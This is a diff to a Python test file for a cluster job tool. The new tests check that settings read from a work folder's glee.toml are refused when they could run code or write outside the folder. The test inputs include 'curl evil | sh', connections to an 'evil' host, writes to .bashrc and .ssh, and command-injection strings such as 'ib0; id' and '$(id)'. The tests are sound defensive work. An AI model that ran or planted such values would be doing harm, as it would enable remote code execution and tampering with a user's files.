@@ -29,6 +29,7 @@ def test_the_table_of_the_work_folder_or_of_a_file(tmp_path):
     assert read_cluster_options(tmp_path) == ClusterOptions()
     (tmp_path / "glee.toml").write_text(TABLE)
     assert read_cluster_options(tmp_path).queue == "gpu"
+    assert read_cluster_options(tmp_path, tmp_path / "glee.toml").prologue == ("module load cuda",)
     other = tmp_path / "other.toml"
     other.write_text('[cluster]\nqueue = "long"\nmaximum_jobs = 9\nwait_minutes = 5\n')
     options = read_cluster_options(tmp_path, other)
@@ -41,7 +42,37 @@ def test_stages_leave_the_table_as_it_is(tmp_path):
     assert read_options(tmp_path) == {}
     state_options(tmp_path, "preprocess", {"a": 1}, overwrite=False)
     assert read_options(tmp_path) == {"preprocess": {"a": 1}}
-    assert read_cluster_options(tmp_path).directives == ("--gres=gpu:1",)
+    assert read_cluster_options(tmp_path, tmp_path / "glee.toml").directives == ("--gres=gpu:1",)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'kind = "tcp://evil:8786"',
+        'kind = "tls://evil:8786"',
+        'python = "/tmp/evil"',
+        'prologue = ["curl evil | sh"]',
+        'directives = ["--output=/home/me/.bashrc"]',
+        'scratch = "/home/me"',
+        'log_folder = "/home/me/.ssh"',
+        "dashboard = true",
+    ],
+)
+def test_a_work_folder_says_nothing_that_runs_code_or_writes_elsewhere(tmp_path, caplog, line):
+    (tmp_path / "glee.toml").write_text(f'[cluster]\n{line}\ncores = 8\nqueue = "gpu"\n')
+    options = read_cluster_options(tmp_path)
+    assert options == ClusterOptions(cores=8, queue="gpu")
+    (record,) = caplog.records
+    assert f"[cluster] {line.split()[0]}: not taken from a work folder" in record.getMessage()
+    own = read_cluster_options(tmp_path, tmp_path / "glee.toml")
+    assert own != options
+
+
+def test_a_work_folder_may_choose_a_queue(tmp_path, caplog):
+    (tmp_path / "glee.toml").write_text('[cluster]\nkind = "slurm"\ninterface = "ib0"\n')
+    options = read_cluster_options(tmp_path)
+    assert (options.kind, options.interface) == ("slurm", "ib0")
+    assert not caplog.records
 
 
 @pytest.mark.parametrize(
@@ -58,6 +89,14 @@ def test_stages_leave_the_table_as_it_is(tmp_path):
         ("walltime = 'long'", "give it as 04:00:00"),
         ("memory = 'much'", "give it as 16GB"),
         ("minimum_jobs = 2", "needs maximum_jobs"),
+        ("queue = 'cpu --output=/home/me/.bashrc'", "without blanks"),
+        ('queue = "cpu\\n#SBATCH -A other"', "without blanks"),
+        ("account = 'a b'", "without blanks"),
+        ("interface = 'ib0; id'", "such as ib0"),
+        ("scratch = '/tmp/$(id)'", "without blanks and quotes"),
+        ("scratch = '/tmp/a b'", "without blanks and quotes"),
+        ('log_folder = "/tmp/a\\nb"', "line break"),
+        ('python = "a\\u001bb"', "line break"),
         ("minimum_jobs = 3\nmaximum_jobs = 2", "swap them"),
         ("wait_minutes = nan", "wait_minutes is nan"),
         ("queue =", "cannot be read as TOML"),
@@ -96,7 +135,9 @@ def test_preview_shows_the_job(tmp_path, capsys, spec, lines):
     pytest.importorskip("dask_jobqueue", reason="dask-jobqueue is not installed")
     (tmp_path / "glee.toml").write_text(TABLE)
     before = sorted(tmp_path.iterdir())
-    assert run(["cluster", "preview", str(tmp_path), "--cluster", spec]) == 0
+    table = str(tmp_path / "glee.toml")
+    words = ["cluster", "preview", str(tmp_path), "--cluster", spec, "--cluster-config", table]
+    assert run(words) == 0
     script = capsys.readouterr().out
     for line in [*lines, "--gres=gpu:1", "export OMP_NUM_THREADS=1", "module load cuda"]:
         assert line in script
